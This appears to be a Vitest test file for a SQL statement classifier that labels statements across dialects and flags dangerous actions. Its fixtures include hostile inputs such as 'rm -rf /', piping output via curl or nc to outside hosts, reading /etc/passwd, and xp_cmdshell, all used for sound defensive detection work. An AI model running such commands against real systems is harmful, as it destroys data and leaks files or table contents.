import { describe, expect, it } from 'vitest';
import type { Dialect, StatementFacts } from '../../runtime/facts/types.js';
import { classifyUnparsed } from '../../runtime/sql/lexer/classify.js';
import { splitStatements } from '../../runtime/sql/lexer/split.js';
import { advanceFileState, newFileState, transactionContext } from '../../runtime/sql/file-state.js';
import { lineIndex } from '../../runtime/text/spans.js';

function classifyAll(text: string, dialect: Dialect = 'postgres'): StatementFacts[] {
  const lines = lineIndex(text);
  const file = newFileState();
  return splitStatements(text, dialect).statements.map((raw, index) => {
    const f = classifyUnparsed({ text, raw, index, dialect, lines, transaction: transactionContext(file), file });
    advanceFileState(file, f);
    return f;
  });
}
const one = (text: string, dialect: Dialect = 'postgres'): StatementFacts => classifyAll(text, dialect)[0];
const actions = (f: StatementFacts): [string, string | null, boolean, string][] => f.actions.map((a) => [a.action, a.target, a.nested, a.via]);
const tables = (f: StatementFacts): [string, string[]][] => f.tables.map((t) => [t.name, t.access]);

describe('classifyUnparsed', () => {
  it('reads DROP TABLE with targets, and never parses', () => {
    const f = one('DrOp/**/TaBlE IF EXISTS a, "B".c CASCADE');
    expect(f.parsed).toBe(false);
    expect(f.statementKind).toBe('drop_table');
    expect(actions(f)).toEqual([
      ['drop_table', 'public.a', false, 'top'],
      ['drop_table', 'B.c', false, 'top'],
    ]);
    expect(tables(f)).toEqual([
      ['public.a', ['ddl']],
      ['B.c', ['ddl']],
    ]);
    expect(f.isDdl).toBe(true);
    expect(f.diagnostics).toEqual([]);
    expect(f.columns).toEqual([]);
    expect(f.outputs).toEqual([]);
  });

  it('reads DELETE and UPDATE with their filters and limits', () => {
    const d = one('DELETE FROM ONLY s.t');
    expect(d.statementKind).toBe('delete');
    expect(d.where).toBe('absent');
    expect(actions(d)).toEqual([['delete', 's.t', false, 'top']]);
    expect(tables(d)).toEqual([['s.t', ['write']]]);
    expect(d.writes).toBe(true);

    const u = one('UPDATE users SET a = 1 WHERE 1 = 1 OR id = 2 LIMIT 5', 'mysql');
    expect(u.where).toBe('trivial');
    expect(u.limit).toBe(5);
    expect(u.actions[0]).toMatchObject({ action: 'update', target: 'users', where: 'trivial', limit: 5 });

    expect(one("DELETE FROM t WHERE 'a' = 'a'").where).toBe('trivial');
    expect(one('DELETE FROM t WHERE (true)').where).toBe('trivial');
    expect(one('DELETE FROM t WHERE id = 1').where).toBe('present');
    expect(one('DELETE FROM t WHERE 1 = 2').where).toBe('present');
  });

  it('reads tables after FROM and JOIN as read, targets as write', () => {
    const f = one('INSERT INTO audit SELECT * FROM users u JOIN public.orders o ON true, items WHERE x IN (SELECT 1 FROM refs)');
    expect(tables(f)).toEqual([
      ['public.audit', ['write']],
      ['public.users', ['read']],
      ['public.items', ['read']],
      ['public.orders', ['read']],
      ['public.refs', ['read']],
    ]);
  });

  it('finds data-modifying CTEs, EXPLAIN ANALYZE and COPY (query) as nested actions', () => {
    const cte = one('WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d');
    expect(cte.dataModifyingCte).toBe(true);
    expect(cte.statementKind).toBe('select');
    expect(actions(cte)).toEqual([
      ['delete', 'public.users', true, 'cte'],
      ['select', null, false, 'top'],
    ]);
    expect(tables(cte)).toEqual([['public.users', ['write']]]);

    const ex = one('EXPLAIN ANALYZE DELETE FROM q');
    expect(ex.explain).toEqual({ analyze: true });
    expect(actions(ex)).toEqual([
      ['explain_analyze', null, false, 'top'],
      ['delete', 'public.q', true, 'explain_analyze'],
    ]);
    expect(actions(one('EXPLAIN DELETE FROM q'))).toEqual([['explain', null, false, 'top']]);

    const cp = one('COPY (DELETE FROM z RETURNING *) TO STDOUT');
    expect(actions(cp)).toEqual([
      ['copy_to_stdout', null, false, 'top'],
      ['delete', 'public.z', true, 'copy'],
    ]);
    expect(actions(one("COPY t FROM PROGRAM 'curl x'"))).toEqual([['copy_from_program', 'public.t', false, 'top']]);
    expect(tables(one("COPY t FROM PROGRAM 'curl x'"))).toEqual([['public.t', ['write']]]);
  });

  it('finds statements inside routine bodies and DO blocks', () => {
    const doBlock = one("DO $$ BEGIN DELETE FROM t2; EXECUTE 'DROP TABLE x'; END $$");
    expect(doBlock.statementKind).toBe('do');
    expect(actions(doBlock)).toEqual([
      ['other', null, false, 'top'],
      ['delete', 'public.t2', true, 'do_block'],
      ['execute', null, true, 'do_block'],
      ['dynamic_sql', null, true, 'do_block'],
      ['drop_table', 'public.x', true, 'dynamic'],
    ]);
    expect(doBlock.dynamicSql).toMatchObject([{ via: 'execute', constant: true }]);

    const proc = one('CREATE PROCEDURE p() BEGIN IF x THEN DELETE FROM t; END IF; DROP TABLE y; END', 'mysql');
    expect(proc.statementKind).toBe('create_procedure');
    expect(actions(proc)).toEqual([
      ['create_function', 'p', false, 'top'],
      ['delete', 't', true, 'function_body'],
      ['drop_table', 'y', true, 'function_body'],
    ]);
  });

  it('finds the statements a rule runs', () => {
    const r = one('CREATE RULE r AS ON SELECT TO v DO INSTEAD (UPDATE t SET a = 1)');
    expect(actions(r)).toEqual([
      ['create_rule', 'r', false, 'top'],
      ['update', 'public.t', true, 'rule'],
    ]);
    expect(tables(r)).toEqual([
      ['public.v', ['ddl']],
      ['public.t', ['write']],
    ]);
  });

  it('reads MERGE branches, TRUNCATE lists, ALTER TABLE clauses', () => {
    expect(actions(one('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)'))).toEqual([
      ['merge', 'public.t', false, 'top'],
      ['delete', 'public.t', true, 'merge'],
      ['insert', 'public.t', true, 'merge'],
    ]);
    expect(actions(one('TRUNCATE TABLE a, b CASCADE'))).toEqual([
      ['truncate', 'public.a', false, 'top'],
      ['truncate', 'public.b', false, 'top'],
    ]);
    expect(actions(one('ALTER TABLE foo ADD COLUMN b int, ALTER COLUMN c SET NOT NULL, DROP CONSTRAINT k, ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES bar (id), DISABLE ROW LEVEL SECURITY'))).toEqual([
      ['alter_table', 'public.foo', false, 'top'],
      ['add_column', 'public.foo', false, 'top'],
      ['set_not_null', 'public.foo', false, 'top'],
      ['drop_constraint', 'public.foo', false, 'top'],
      ['add_constraint', 'public.foo', false, 'top'],
      ['add_foreign_key', 'public.foo', false, 'top'],
      ['disable_rls', 'public.foo', false, 'top'],
    ]);
  });

  it('reads privileges, roles, session and transaction control', () => {
    // postgres targets are schema-qualified and role grants name the role, as the parsed path reports them
    expect(actions(one('GRANT ALL ON TABLE foo TO bob'))).toEqual([['grant', 'public.foo', false, 'top']]);
    expect(actions(one('GRANT admin TO bob'))).toEqual([['grant_role', 'admin', false, 'top']]);
    expect(actions(one('REVOKE SELECT ON t FROM PUBLIC'))).toEqual([['revoke', 'public.t', false, 'top']]);
    expect(one('GRANT ALL ON users TO PUBLIC garbage').privileges).toMatchObject([
      { operation: 'grant', privileges: ['all'], objectType: 'table', objects: ['public.users'], grantees: ['public'], withGrantOption: false },
    ]);
    expect(actions(one("CREATE USER 'x'@'%' IDENTIFIED BY 'p'", 'mysql'))).toEqual([['create_role', 'x@%', false, 'top']]);
    expect(actions(one("SET lock_timeout = '1s'"))).toEqual([['set', 'lock_timeout', false, 'top']]);
    expect(actions(one('SET GLOBAL max_connections = 5', 'mysql'))).toEqual([['set_config', 'max_connections', false, 'top']]);
    expect(actions(one('SET ROLE admin'))).toEqual([['set_role', 'admin', false, 'top']]);
    expect(actions(one('ALTER DATABASE shop SET work_mem TO garbage garbage'))).toEqual([['alter_database', 'shop', false, 'top']]);
    expect(actions(one('ALTER DATABASE shop OWNER TO ('))).toEqual([['alter_owner', 'shop', false, 'top']]);
    expect(actions(one('ALTER SCHEMA app RENAME TO ('))).toEqual([['rename_schema', 'app', false, 'top']]);
    expect(actions(one('ALTER SCHEMA shop CHARSET latin1', 'mysql'))).toEqual([['alter_database', 'shop', false, 'top']]);
    expect(actions(one('ALTER DATABASE CHARACTER SET latin1', 'mariadb'))).toEqual([['alter_database', null, false, 'top']]);
    expect(one('ALTER SCHEMA shop CHARSET latin1', 'mysql').statementKind).toBe('alter_database');
    const tx = classifyAll('BEGIN; DELETE FROM t WHERE id = 1; ROLLBACK TO SAVEPOINT s; COMMIT; SELECT 1');
    expect(tx.map((f) => f.statementKind)).toEqual(['begin', 'delete', 'rollback_to_savepoint', 'commit', 'select']);
    expect(tx.map((f) => f.transaction.inExplicitTransaction)).toEqual([false, true, true, true, false]);
  });

  it('flags dangerous calls and side channels even unparsed', () => {
    const f = one("SELECT pg_read_file('/etc/passwd') garbage garbage");
    expect(f.functions.map((x) => [x.name, x.category, x.dangerous])).toEqual([['pg_read_file', 'file_read', true]]);
    const m = one("SELECT LOAD_FILE('/etc/passwd') INTO OUTFILE '/tmp/x'", 'mysql');
    expect(actions(m)).toEqual([
      ['select', null, false, 'top'],
      ['into_outfile', '/tmp/x', false, 'top'],
      ['write_server_file', '/tmp/x', false, 'top'],
      ['read_server_file', null, false, 'top'],
    ]);
  });

  it('reads file and stage side channels of other dialects', () => {
    expect(actions(one('COPY INTO mytable FROM @stage/x.csv', 'snowflake'))).toEqual([['copy_from_file', 'mytable', false, 'top']]);
    const unload = one('COPY INTO @out/ FROM (SELECT * FROM users)', 'snowflake');
    expect(actions(unload)).toEqual([
      ['copy_to_file', '@out', false, 'top'],
      ['select', null, true, 'copy'],
    ]);
    expect(tables(unload)).toEqual([['users', ['read']]]);
    expect(actions(one("ATTACH DATABASE '/tmp/x.db' AS x", 'sqlite'))).toEqual([
      ['use_database', '/tmp/x.db', false, 'top'],
      ['write_server_file', '/tmp/x.db', false, 'top'],
    ]);
    expect(actions(one("BULK INSERT t FROM '/data/x.csv'", 'transactsql'))).toEqual([
      ['load_data', 't', false, 'top'],
      ['read_server_file', '/data/x.csv', false, 'top'],
    ]);
    expect(actions(one("EXPORT DATA OPTIONS (uri = 'gs://b/*.csv') AS SELECT * FROM users", 'bigquery'))).toEqual([
      ['copy_to_file', null, false, 'top'],
      ['select', null, true, 'copy'],
    ]);
    expect(actions(one('EXECUTE IMMEDIATE $$DROP TABLE x$$', 'snowflake'))).toEqual([
      ['execute', null, false, 'top'],
      ['dynamic_sql', null, false, 'top'],
      ['drop_table', 'x', true, 'dynamic'],
    ]);
    expect(one("EXEC xp_cmdshell 'dir'", 'transactsql').functions.map((f) => [f.name, f.category])).toEqual([['xp_cmdshell', 'program']]);
  });

  it('classifies psql meta-commands', () => {
    const [sel, copy, shell] = classifyAll("SELECT 1\n\\copy users TO PROGRAM 'nc host 1'\n\\! rm -rf /\n");
    expect(sel.statementKind).toBe('select');
    expect(copy.statementKind).toBe('psql_meta');
    expect(actions(copy)).toEqual([['copy_to_program', 'public.users', false, 'top']]);
    expect(tables(copy)).toEqual([['public.users', ['read']]]);
    expect(shell.functions.map((x) => [x.name, x.category])).toEqual([['\\!', 'program']]);
  });

  it('gives unknown statements kind `unknown` and an `other` action', () => {
    const f = one('FROBNICATE the database');
    expect(f.statementKind).toBe('unknown');
    expect(actions(f)).toEqual([['other', null, false, 'top']]);
  });

  it('fingerprints ignore constants, case, comments and list lengths', () => {
    const a = one("select * from t where id in (1, 2, 3) and name = 'x' -- c");
    const b = one("SELECT  *  FROM t /* x */ WHERE id IN (7) AND name = 'yy'");
    const c = one("SELECT * FROM u WHERE id IN (7) AND name = 'yy'");
    expect(a.fingerprint).toBe(b.fingerprint);
    expect(a.fingerprint).not.toBe(c.fingerprint);
    expect(a.fingerprint).toMatch(/^[0-9a-f]{16}$/);
  });

  it('records tables created earlier in the file', () => {
    const [, idx] = classifyAll('CREATE TABLE t (id int); CREATE INDEX i ON t (id)');
    expect(idx.tables).toMatchObject([{ name: 'public.t', createdInFile: true, access: ['ddl'] }]);
  });

  it('spans point at the keywords and names in the text', () => {
    const text = 'SELECT 1;\n  DELETE FROM  users';
    const f = classifyAll(text)[1];
    expect(text.slice(f.actions[0].span.start, f.actions[0].span.end)).toBe('DELETE FROM  users');
    expect(f.tables[0].span).toMatchObject({ line: 2, column: 16, endLine: 2, endColumn: 21 });
    expect(f.span).toMatchObject({ start: 12, end: text.length, line: 2, column: 3 });
  });
});

describe('classifyUnparsed: FROM lists', () => {
  it('reads tables after derived tables and table functions in a comma list', () => {
    const f = one('SELECT * FROM (SELECT * FROM a) s, generate_series(1, 3) g, b JOIN c ON true, d WHERE 1 = 1 garbage');
    expect(tables(f).map((t) => t[0]).sort()).toEqual(['public.a', 'public.b', 'public.c', 'public.d']);
  });

  it('reads the statements that begin after garbage, fail closed, without repeating nested ones', () => {
    const f = one('xyzzy garbage DROP TABLE users TRUNCATE t');
    expect(f.statementKind).toBe('unknown');
    expect(actions(f)).toEqual([
      ['other', null, false, 'top'],
      ['drop_table', 'public.users', false, 'top'],
      ['truncate', 'public.t', false, 'top'],
    ]);
    expect(f.ddl.map((d) => [d.operation, d.table, d.lock])).toEqual([
      ['drop_table', 'public.users', 'ACCESS EXCLUSIVE'],
      ['truncate', 'public.t', 'ACCESS EXCLUSIVE'],
    ]);
    // after a known head too; a CTE's DELETE stays nested, once
    expect(actions(one('SELECT 1 \ufffd DROP TABLE x')).map((a) => a[0])).toEqual(['select', 'drop_table']);
    expect(actions(one('WITH a AS (WITH b AS (DELETE FROM users RETURNING 1) SELECT 1) SELECT 1 garbage'))).toEqual([
      ['delete', 'public.users', true, 'cte'],
      ['select', null, false, 'top'],
    ]);
    // not clauses that look alike, nor the statement EXPLAIN does not run
    expect(actions(one('CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL) garbage')).map((a) => a[0])).toEqual(['create_table']);
    expect(actions(one('GRANT SELECT ON t TO u WITH GRANT OPTION garbage')).map((a) => a[0])).toEqual(['grant']);
    expect(actions(one('EXPLAIN DELETE FROM t x y')).map((a) => a[0])).toEqual(['explain']);
  });

  it('reads client commands that run programs or unanalysed files', () => {
    const [o, i] = classifyAll('\\o |curl -d @- http://x\n\\i evil.sql\n');
    expect(actions(o)).toEqual([['other', 'shell', false, 'top']]);
    expect(o.functions.map((x) => [x.name, x.category])).toEqual([['\\o', 'program']]);
    expect(actions(i)).toEqual([['dynamic_sql', 'evil.sql', false, 'top']]);
    expect(i.dynamicSql).toMatchObject([{ via: 'other', constant: false }]);
    const [, sys, src] = classifyAll('SELECT 1;\nsystem rm -rf /\nsource evil.sql', 'mysql');
    expect(sys.functions.map((x) => [x.name, x.category])).toEqual([['\\!', 'program']]);
    expect(actions(src)).toEqual([['dynamic_sql', 'evil.sql', false, 'top']]);
    const pagers = classifyAll('\\P curl -d @- http://x\npager nc x 1\n\\P\n', 'mysql');
    expect(pagers.map((f) => f.functions.map((x) => x.category))).toEqual([['program'], ['program'], []]);
  });

  it('resolves MySQL multi-table DELETE aliases to their tables', () => {
    expect(actions(one('DELETE u, o FROM users u JOIN orders AS o ON u.id = o.uid', 'mysql')).map((a) => a[1])).toEqual(['users', 'orders']);
    expect(actions(one('DELETE FROM u USING (users u JOIN orders o ON f(a, b))', 'mysql')).map((a) => a[1])).toEqual(['users']);
    expect(tables(one('DELETE u FROM users u', 'mysql'))).toEqual([['users', ['write', 'read']]]);
  });

  it('reads SQLite VACUUM INTO and the file and library side channels of calls', () => {
    expect(actions(one("VACUUM INTO '/tmp/b.db'", 'sqlite'))).toEqual([
      ['vacuum', null, false, 'top'],
      ['write_server_file', '/tmp/b.db', false, 'top'],
    ]);
    expect(actions(one("SELECT load_extension('/x.so'), writefile('/y', 1)", 'sqlite')).map((a) => a[0])).toEqual(['select', 'load_library', 'write_server_file']);
  });
});
